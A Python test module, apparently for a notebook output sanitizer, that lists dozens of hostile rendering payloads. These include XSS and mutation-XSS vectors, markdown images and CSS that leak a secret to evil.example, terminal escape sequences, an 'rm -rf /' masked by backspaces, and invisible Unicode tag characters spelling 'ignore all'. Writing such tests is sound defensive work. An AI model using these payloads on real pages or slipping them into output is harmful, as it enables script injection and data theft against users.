"""Texts that do harm where a page takes them for more than text: our own, beside those of the corpus."""

from __future__ import annotations

import json
from pathlib import Path

ATTACKS = Path(__file__).parents[1] / "corpus" / "attacks"
CORPUS = [
    attack
    for name in ("output_attacks.json", "output_more.json")
    for attack in json.loads((ATTACKS / name).read_text("utf-8"))
]
E = "https://evil.example/p?d=SECRET"

OWN = {
    "svg onload": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg image": f"<svg><image href='{E}'/><use xlink:href='{E}#a'/></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "math action": f"<math><maction actiontype=statusline xlink:href='{E}'>x</maction></math>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by template": "<template><script>alert(1)</script></template>",
    "mutation by title": "<title><style><img src=x onerror=alert(1)></style></title>",
    "mutation by select": "<select><template><script>alert(1)</script></template></select>",
    "unclosed tag": "<img src=x onerror=alert(1) //",
    "unclosed script": "<script>alert(1)",
    "unclosed attribute": "<a href=\"x' onclick=alert(1) y=",
    "unclosed comment": "<!-- <img src=x onerror=alert(1)>",
    "odd comment": "<!--><img src=x onerror=alert(1)>-->",
    "abrupt comment": "<!--->--!><script>alert(1)</script>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "doctype": f"<!DOCTYPE html SYSTEM '{E}'><html manifest='{E}'>",
    "upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><IMG SRC=x ONERROR=alert(1)>",
    "slash in place of space": "<img/src=x/onerror=alert(1)>",
    "line ends in a tag": "<img\nsrc=x\nonerror\n=\nalert(1)\n>",
    "nul in a tag": "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>",
    "entities in a url": "<a href='&#106;avascript&colon;alert(1)'>x</a><a href='java&Tab;script:alert(1)'>y</a>",
    "entities as text": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;",
    "double entities": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data url with svg": "<img src='data:image/svg+xml,<svg onload=alert(1)>'><a href='data:image/svg+xml;base64,PHN2Zz4='>x</a>",
    "data url picture": "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "file and blob": "<a href='file:///etc/passwd'>x</a><a href='blob:https://evil.example/1'>y</a>",
    "protocol relative": "<img src=//evil.example/p><a href=//evil.example/p>x</a><script src=//evil.example/x></script>",
    "srcset and picture": f"<picture><source srcset='{E} 1x'><img srcset='{E} 2x'></picture>",
    "background attribute": f"<table background='{E}'><td background='{E}'>x</td></table><body background='{E}'>",
    "style tag": f"<style>@import url('{E}'); * {{background: url({E})}}</style>",
    "style that hides": "<div style='position:fixed;inset:0;z-index:9999'>click me</div>",
    "class of the front end": "<div class='jp-Button jp-mod-accept' data-commandlinker-command='x'>Click</div>",
    "input and form": f"<form action='{E}'><input name=q autofocus onfocus=alert(1)><button formaction='{E}'>x</button></form>",
    "base": f"<base href='{E}'><a href='/x'>x</a>",
    "frames": f"<frameset><frame src='{E}'></frameset><iframe src='{E}'></iframe><portal src='{E}'></portal>",
    "details toggle": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "ping": f"<a href='https://example.org' ping='{E}'>x</a><area href='{E}'>",
    "id that shadows": "<a id=Jupyter name=Jupyter>x</a><img name=cookie><form id=document>",
    "custom element": "<x-y onclick=alert(1)></x-y><jupyter-widget data='x'></jupyter-widget>",
    "out of a table": "</td></tr></table><script>alert(1)</script><table><tr><td>",
    "out of a pre": "</code></pre><script>alert(1)</script><pre><code>",
    "out of an attribute": '" onerror="alert(1)" x="\' onload=\'alert(1)',
    "out of the frame": "</div></div><iframe src=javascript:alert(1)>",
    "markdown image": f"![x]({E})",
    "markdown image with title": f'![x]({E} "title")',
    "markdown data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown link in a picture": f"[![x]({E})]({E})",
    "markdown autolink": f"<{E}> <javascript:alert(1)>",
    "markdown reference": f"[x][a]\n\n[a]: javascript:alert(1)\n[b]: {E}\n\n![y][b]",
    "markdown link with a line end": "[x](java\nscript:alert(1)) [y](java&#x0A;script:alert(1))",
    "markdown title breaks out": "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "markdown fence": "```html onload=alert(1)\n<script>alert(1)</script>\n```\n<script>alert(2)</script>",
    "markdown fence with a language": '```"><img src=x onerror=alert(1)>\nx\n```',
    "markdown table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "markdown heading html": "# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>",
    "markdown html in a list": "* <div onclick=alert(1)>\n\n  <script>alert(1)</script>",
    "mathjax href": "$$\\href{javascript:alert(1)}{\\text{click}}$$ \\(\\href{javascript:alert(1)}{x}\\)",
    "mathjax html": "$\\unicode{<img src=1 onerror=alert(1)>}$ $\\require{html}\\style{background:url(//evil.example)}{x}$",
    "terminal link": f"\x1b]8;;{E}\x07click\x1b]8;;\x07 \x1b[2J\x1b[31mred",
    "terminal title": "\x1b]0;evil\x07\x9b31m\x1bPq#0\x1b\\",
    "turned text": "safe\u202e>tpircs/<)1(trela>tpircs<",
    "hidden tags": "hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all"),
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\bls   \rdone",
    "json for a widget": '{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}',
    "jinja": "{{ ''.__class__ }}{% raw %}<script>alert(1)</script>{% endraw %}",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full width": "＜script＞alert(1)＜/script＞",
    "long": "<b>" * 5000 + "<script>alert(1)</script>",
    "deep": "> " * 500 + "<script>alert(1)</script>",
}

PAYLOADS = {**{attack["id"]: attack["payload"] for attack in CORPUS if attack["kind"] != "repr"}, **OWN}
REPRS = {attack["id"]: attack["payload"] for attack in CORPUS if attack["kind"] == "repr"}
